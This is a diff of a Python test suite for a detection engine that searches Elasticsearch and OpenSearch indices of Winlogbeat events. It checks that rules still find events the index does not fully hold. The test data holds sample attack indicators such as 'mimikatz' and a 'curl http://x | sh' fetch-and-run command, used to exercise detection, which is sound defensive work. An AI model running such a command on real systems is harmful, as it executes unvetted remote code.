@@ -1,4 +1,4 @@
-"""Where an index knows less of an event than its `_source`: each trap, on both engines, from rule to hit."""
+"""Cases in which an index holds less of an event than `_source`: each on both engines, from rule to hit."""
 
 from __future__ import annotations
 
@@ -31,64 +31,67 @@ HEAD = {"channel": KEYWORD, "event_id": KEYWORD}
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
-class Found:
-    """What came of one rule."""
+class TrapResult:
+    """The result of one rule."""
 
     plan: QueryPlan
-    returned: frozenset[str]  # `index/id` of what the query returned
+    returned: frozenset[str]  # `index/id` of the events that the query returned
     confirmed: frozenset[str]
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
 class Trap:
-    """Indices of one test, and rules asked of them."""
+    """The indices of one test, which rules search."""
 
-    lent: Indices
+    indices_of_engine: Indices
     connection: Connection
     name: str
 
     def make(self, data: Mapping[str, Any], *, index: str = "a", dynamic: Any = True, **settings: Any) -> None:
-        """Make an index that maps fields of the event's data."""
+        """Create an index that maps fields of the event's data."""
         inner = {"properties": data} if "type" not in data else data
-        mapped = {"dynamic": dynamic, "properties": {**TIME, "winlog": {"properties": {**HEAD, "event_data": inner}}}}
-        self.lent.make(f"winlogbeat-{self.name}-{index}", mapped, **settings)
+        mappings = {"dynamic": dynamic, "properties": {**TIME, "winlog": {"properties": {**HEAD, "event_data": inner}}}}
+        self.indices_of_engine.make(f"winlogbeat-{self.name}-{index}", mappings, **settings)
 
     def fill(self, *data: Mapping[str, Any], index: str = "a") -> None:
-        """Write process creations with such data."""
-        self.write([{"winlog": {"channel": SYSMON, "event_id": "1", "event_data": one}} for one in data], index=index)
+        """Index process creations with such data."""
+        self.write(
+            [{"winlog": {"channel": SYSMON, "event_id": "1", "event_data": event_data}} for event_data in data],
+            index=index,
+        )
 
     def write(self, events: Sequence[Mapping[str, Any]], index: str = "a") -> None:
-        """Write events as they are."""
+        """Index events unchanged, but for their timestamp."""
         stamped = [{"@timestamp": "2026-03-01T12:00:00.123Z", **event} for event in events]
-        self.lent.fill(f"winlogbeat-{self.name}-{index}", stamped)
+        self.indices_of_engine.fill(f"winlogbeat-{self.name}-{index}", stamped)
 
-    def find(self, selection: Any, condition: str = "selection", **logsource: str) -> Found:
-        """Search by a rule, confirm, and tell what was found."""
-        rule = made(selection, condition, logsource or {"product": "windows", "category": "process_creation"})
-        book = PlanCache(SOURCE, (rule,))
-        holds = rule_predicate(rule, SOURCE)
+    def find(self, selection: Any, condition: str = "selection", **logsource: str) -> TrapResult:
+        """Search by a rule and confirm the returned events."""
+        rule = rule_of(selection, condition, logsource or {"product": "windows", "category": "process_creation"})
+        cache = PlanCache(SOURCE, (rule,))
+        predicate = rule_predicate(rule, SOURCE)
         events, pattern = self.connection.events(), f"winlogbeat-{self.name}-*"
         returned, confirmed = set(), set()
         with events.open(pattern, DAY, time_field="@timestamp") as snapshot:
-            mapping = events.mapping(pattern, book.paths)
+            mapping = events.mapping(pattern, cache.paths)
             event_reader = EventReader(SOURCE, mapping)
-            (plan,) = book.plans(mapping)
+            (plan,) = cache.plans(mapping)
             for outcome in search_by_query(snapshot, [plan]):
                 assert not isinstance(outcome, FailedSearch), outcome
-                for one in outcome.found:
-                    named = f"{one.index.rsplit('-', 1)[1]}/{one.id}"
-                    returned.add(named)
-                    if holds(event_reader.view(one)):
-                        confirmed.add(named)
-        return Found(plan=plan, returned=frozenset(returned), confirmed=frozenset(confirmed))
+                for document in outcome.found:
+                    document_id = f"{document.index.rsplit('-', 1)[1]}/{document.id}"
+                    returned.add(document_id)
+                    if predicate(event_reader.view(document)):
+                        confirmed.add(document_id)
+        return TrapResult(plan=plan, returned=frozenset(returned), confirmed=frozenset(confirmed))
 
     def hits(self, selection: Any, condition: str = "selection", **logsource: str) -> set[str]:
-        """Give what a rule confirms."""
+        """Return the confirmed events of a rule."""
         return set(self.find(selection, condition, **logsource).confirmed)
 
 
-def made(selection: Any, condition: str, logsource: Mapping[str, str]) -> Rule:
-    """Make a rule, on process creations of Windows unless another log source is named."""
+def rule_of(selection: Any, condition: str, logsource: Mapping[str, str]) -> Rule:
+    """Return a rule with one selection."""
     body = {
         "title": "trap",
         "logsource": dict(logsource),
@@ -101,8 +104,8 @@ def made(selection: Any, condition: str, logsource: Mapping[str, str]) -> Rule:
 @pytest.fixture
 def trap(engine: Running, request: pytest.FixtureRequest) -> Iterator[Trap]:
     name = "".join(letter for letter in request.node.originalname.removeprefix("test_") if letter.isalpha())[:40]
-    with indices(engine.admin()) as lent, connections(engine.cluster()) as connection:
-        yield Trap(lent=lent, connection=connection, name=name)
+    with indices(engine.admin()) as indices_of_engine, connections(engine.cluster()) as connection:
+        yield Trap(indices_of_engine=indices_of_engine, connection=connection, name=name)
 
 
 # --------------------------------------------------------------------------- letters
@@ -124,7 +127,7 @@ def test_a_letter_that_lowers_to_ascii_is_another_letter(trap: Trap) -> None:
     assert trap.hits({"F": "keylog"}, "not selection") == {"a/0"}
 
 
-# --------------------------------------------------------------------------- what is too long for the index
+# --------------------------------------------------------------------------- values longer than ignore_above
 
 LONG = "x" * 300 + " mimikatz " + "y" * 300
 
@@ -139,7 +142,7 @@ LONG = "x" * 300 + " mimikatz " + "y" * 300
     ],
     ids=["keyword", "keyword with text", "text with keyword", "text"],
 )
-def test_what_is_too_long_for_the_index_is_found_also_beside_a_short_value(
+def test_a_value_longer_than_ignore_above_is_found_also_beside_a_short_value(
     trap: Trap, mapping: Mapping[str, Any]
 ) -> None:
     trap.make({"F": mapping})
@@ -154,14 +157,14 @@ def test_what_is_too_long_for_the_index_is_found_also_beside_a_short_value(
 
 
 @pytest.mark.parametrize("letter", ["x", "\N{MATHEMATICAL BOLD CAPITAL A}", "é"])
-def test_a_word_too_long_for_the_analyzer_hides_nothing(trap: Trap, letter: str) -> None:
-    """The standard analyzer cuts words at 255 halves of surrogate pairs, maybe inside what is looked for."""
+def test_a_word_too_long_for_the_analyzer_is_found(trap: Trap, letter: str) -> None:
+    """The standard analyzer splits words after 255 UTF-16 units, perhaps inside the searched string."""
     trap.make({"F": {"type": "keyword", "ignore_above": 100, "fields": {"text": {"type": "text"}}}})
     trap.fill(*({"F": f"{letter}{'a' * (count - 1)}mimikatz{'b' * 60}"} for count in range(246, 256)))
     assert len(trap.hits({"F|contains": "mimikatz"})) == 10
 
 
-# --------------------------------------------------------------------------- what is not in the index at all
+# --------------------------------------------------------------------------- unindexed values
 
 
 def test_a_field_that_the_index_does_not_map_is_found_in_the_event(trap: Trap) -> None:
@@ -188,7 +191,7 @@ def test_a_field_beyond_the_limit_of_the_mapping_is_found_in_the_event(trap: Tra
     assert trap.hits({"F8": "a"}, "not selection") == {"a/1"}
 
 
-def test_a_field_that_is_kept_but_not_searchable_is_found(trap: Trap) -> None:
+def test_a_field_that_is_not_indexed_is_found(trap: Trap) -> None:
     trap.make({"F": {"type": "keyword", "index": False, "doc_values": False}})
     trap.fill({"F": "mimikatz"}, {"F": "calc"})
     assert trap.hits({"F|contains": "mimi"}) == {"a/0"}
@@ -209,7 +212,7 @@ def test_a_malformed_value_is_found_in_the_event(trap: Trap) -> None:
 # --------------------------------------------------------------------------- several indices
 
 
-def test_a_field_of_several_types_is_asked_of_each_index_in_its_way(trap: Trap) -> None:
+def test_a_field_of_several_types_is_searched_in_each_index_by_its_type(trap: Trap) -> None:
     kinds = {
         "keyword": KEYWORD,
         "text": {"type": "text"},
@@ -232,11 +235,11 @@ def test_a_field_of_several_types_is_asked_of_each_index_in_its_way(trap: Trap) 
     assert trap.hits({"F": ""}) == {f"{name}/2" for name in every}
 
 
-def test_a_closed_index_is_named_and_hides_nothing_of_the_others(trap: Trap) -> None:
+def test_a_closed_index_is_reported_and_the_others_are_searched(trap: Trap) -> None:
     for name in ("open", "closed"):
         trap.make({"F": KEYWORD}, index=name)
         trap.fill({"F": "mimikatz"}, index=name)
-    trap.lent.ask("POST", f"/winlogbeat-{trap.name}-closed/_close")
+    trap.indices_of_engine.ask("POST", f"/winlogbeat-{trap.name}-closed/_close")
     assert trap.hits({"F": "mimikatz"}) == {"open/0"}
     mapping = trap.connection.events().mapping(f"winlogbeat-{trap.name}-*", ["winlog.event_data.F"])
     assert mapping.closed == (f"winlogbeat-{trap.name}-closed",)
@@ -251,7 +254,7 @@ def test_events_of_one_millisecond_on_several_shards_are_all_found(trap: Trap) -
 # --------------------------------------------------------------------------- how documents and mappings are written
 
 
-def test_a_field_is_found_however_its_path_is_spelt(trap: Trap) -> None:
+def test_a_field_is_found_at_nested_and_dotted_paths(trap: Trap) -> None:
     trap.make({"F": KEYWORD})
     trap.write(
         [
@@ -268,7 +271,7 @@ def test_a_field_is_found_however_its_path_is_spelt(trap: Trap) -> None:
     assert trap.hits({"F": "mimikatz"}, "not selection") == {"a/6"}
 
 
-def test_an_alias_field_is_read_where_it_points(trap: Trap) -> None:
+def test_an_alias_field_is_read_at_its_target(trap: Trap) -> None:
     properties = {"F": {"type": "alias", "path": "winlog.event_data.Real"}, "Real": KEYWORD}
     trap.make(properties)
     trap.fill({"Real": "mimikatz"}, {"Real": "calc"}, {"Other": "a"})
@@ -277,7 +280,7 @@ def test_an_alias_field_is_read_where_it_points(trap: Trap) -> None:
     assert trap.hits({"F": None}) == {"a/2"}
 
 
-def test_a_value_that_only_the_mapping_holds_is_read_from_it(trap: Trap, engine: Running) -> None:
+def test_a_constant_keyword_is_read_from_the_mapping(trap: Trap, engine: Running) -> None:
     if engine.ca is not None:
         pytest.skip("the Elasticsearch of the tests has no `constant_keyword`")
     trap.make({"F": {"type": "constant_keyword", "value": "Mimikatz"}})
@@ -286,20 +289,20 @@ def test_a_value_that_only_the_mapping_holds_is_read_from_it(trap: Trap, engine:
     assert trap.hits({"F|contains": "calc"}, "not selection") == {"a/0", "a/1"}
 
 
-def test_a_rule_on_a_computed_field_says_so_and_is_asked_by_its_log_source(trap: Trap, engine: Running) -> None:
-    """Its values stand in no event."""
+def test_a_rule_on_a_computed_field_has_a_finding_and_searches_its_log_source(trap: Trap, engine: Running) -> None:
+    """Its values are in no event."""
     path = "winlog.event_data.F"
     source = "emit(params._source.winlog.event_data.G)" if engine.ca is None else None
     computed = {path: {"type": "keyword", **({"script": {"source": source}} if source else {})}}
-    whole = {
+    mappings = {
         "properties": {**TIME, "winlog": {"properties": {**HEAD, "event_data": {"properties": {"G": KEYWORD}}}}},
         "derived" if engine.ca is None else "runtime": computed,
     }
-    trap.lent.make(f"winlogbeat-{trap.name}-a", whole)
+    trap.indices_of_engine.make(f"winlogbeat-{trap.name}-a", mappings)
     trap.fill({"G": "mimikatz"})
-    found = trap.find({"F|contains": "mimi"})
-    assert "computed-field" in [finding.code for finding in found.plan.findings]
-    assert found.returned == {"a/0"}  # asked by its log source alone
+    result = trap.find({"F|contains": "mimi"})
+    assert "computed-field" in [finding.code for finding in result.plan.findings]
+    assert result.returned == {"a/0"}  # searched by its log source alone
 
 
 # --------------------------------------------------------------------------- limits
@@ -309,24 +312,24 @@ def test_a_rule_of_more_clauses_than_the_engine_allows_is_searched_in_parts(trap
     trap.make({"F": KEYWORD, "G": KEYWORD})
     trap.fill({"F": "a value 3999 b", "G": "x"}, {"F": "a value 0 b", "G": "x"}, {"F": "a value 3999 b", "G": "y"})
     values = [f"value {number} " for number in range(4_000)]
-    found = trap.find({"F|contains": values, "G": "X"})
-    assert found.confirmed == {"a/0", "a/1"}
-    assert found.plan.parts or trap.connection.events().mapping("x-*", ()).max_clauses > 4_000
+    result = trap.find({"F|contains": values, "G": "X"})
+    assert result.confirmed == {"a/0", "a/1"}
+    assert result.plan.parts or trap.connection.events().mapping("x-*", ()).max_clauses > 4_000
 
 
-def test_a_rule_whose_patterns_cost_more_than_its_events_is_asked_by_its_fields(trap: Trap) -> None:
-    """As the hashes of thousands of drivers: a node of little memory dies of building automata of them all."""
+def test_a_rule_with_too_many_patterns_searches_for_the_presence_of_its_fields(trap: Trap) -> None:
+    """As hashes of thousands of drivers: a node with little memory fails to build automata of them all."""
     trap.make({"F": KEYWORD, "G": KEYWORD})
     hashes = [sha256(str(number).encode()).hexdigest() for number in range(2_000)]
     trap.fill({"F": f"MD5=0,SHA256={hashes[1_999].upper()}"}, {"F": "SHA256=0"}, {"G": "x"})
-    found = trap.find({"F|contains": [f"SHA256={one}" for one in hashes]})
-    assert (found.returned, found.confirmed) == ({"a/0", "a/1"}, {"a/0"})
-    assert not found.plan.parts
-    assert trap.hits({"F|contains": [f"SHA256={one}" for one in hashes]}, "not selection") == {"a/1", "a/2"}
+    result = trap.find({"F|contains": [f"SHA256={digest}" for digest in hashes]})
+    assert (result.returned, result.confirmed) == ({"a/0", "a/1"}, {"a/0"})
+    assert not result.plan.parts
+    assert trap.hits({"F|contains": [f"SHA256={digest}" for digest in hashes]}, "not selection") == {"a/1", "a/2"}
 
 
-def test_patterns_on_a_wildcard_field_count_as_the_clauses_they_become(trap: Trap, engine: Running) -> None:
-    """OpenSearch makes a clause of every three letters in a row: 100 patterns are more than it allows."""
+def test_patterns_on_a_wildcard_field_count_as_their_trigram_clauses(trap: Trap, engine: Running) -> None:
+    """OpenSearch creates a clause for each trigram: 100 patterns exceed its limit."""
     if engine.ca is not None:
         pytest.skip("the Elasticsearch of the tests has no `wildcard`")
     trap.make({"F": {"type": "wildcard"}})
@@ -340,32 +343,32 @@ def test_patterns_on_a_wildcard_field_count_as_the_clauses_they_become(trap: Tra
 # --------------------------------------------------------------------------- other products
 
 
-def test_a_rule_of_another_product_reads_ecs_and_leaves_windows_alone(trap: Trap) -> None:
+def test_a_rule_of_another_product_reads_ecs_and_no_windows_events(trap: Trap) -> None:
     trap.make({"CommandLine": KEYWORD})
     trap.write(
         [
             {"process": {"command_line": "curl http://x | sh", "executable": "/usr/bin/curl"}},
-            {"CommandLine": "curl http://x | sh", "Image": "/usr/bin/curl"},  # as another shipper keeps it
+            {"CommandLine": "curl http://x | sh", "Image": "/usr/bin/curl"},  # as another shipper names it
             {"winlog": {"channel": SYSMON, "event_id": "1", "event_data": {"CommandLine": "curl http://x | sh"}}},
             {"process": {"command_line": "ls"}},
         ]
     )
-    asked = {"product": "linux", "category": "process_creation"}
-    assert trap.hits({"CommandLine|contains": "CURL "}, **asked) == {"a/0", "a/1"}
-    assert trap.hits({"CommandLine|contains": "curl "}, "not selection", **asked) == {"a/3"}
+    logsource = {"product": "linux", "category": "process_creation"}
+    assert trap.hits({"CommandLine|contains": "CURL "}, **logsource) == {"a/0", "a/1"}
+    assert trap.hits({"CommandLine|contains": "curl "}, "not selection", **logsource) == {"a/3"}
     assert trap.hits({"CommandLine|contains": "curl "}) == {"a/2"}
-    assert trap.find({"CommandLine|contains": "curl "}, **asked).plan.findings == ()
-    (told,) = trap.find({"CommandLine|contains": "curl "}, product="qflow", service="flows").plan.findings
-    assert told.code == "unknown-logsource"
+    assert trap.find({"CommandLine|contains": "curl "}, **logsource).plan.findings == ()
+    (finding,) = trap.find({"CommandLine|contains": "curl "}, product="qflow", service="flows").plan.findings
+    assert finding.code == "unknown-logsource"
 
 
 # --------------------------------------------------------------------------- numbers
 
 
-def test_a_whole_number_is_found_however_it_is_written(trap: Trap) -> None:
+def test_an_integer_is_found_in_each_of_its_spellings(trap: Trap) -> None:
     trap.make({"F": KEYWORD, "G": {"type": "text", "fields": {"keyword": {"type": "keyword", "ignore_above": 256}}}})
     written = ("5", "005", "+5", "-5", "5.0", "0x5", 5, "0", "-0", "")
-    trap.fill(*({"F": one, "G": one} for one in written))
+    trap.fill(*({"F": value, "G": value} for value in written))
     for name in "FG":
         assert trap.hits({name: 5}) == {"a/0", "a/1", "a/2", "a/6"}
         assert trap.hits({name: -5}) == {"a/3"}
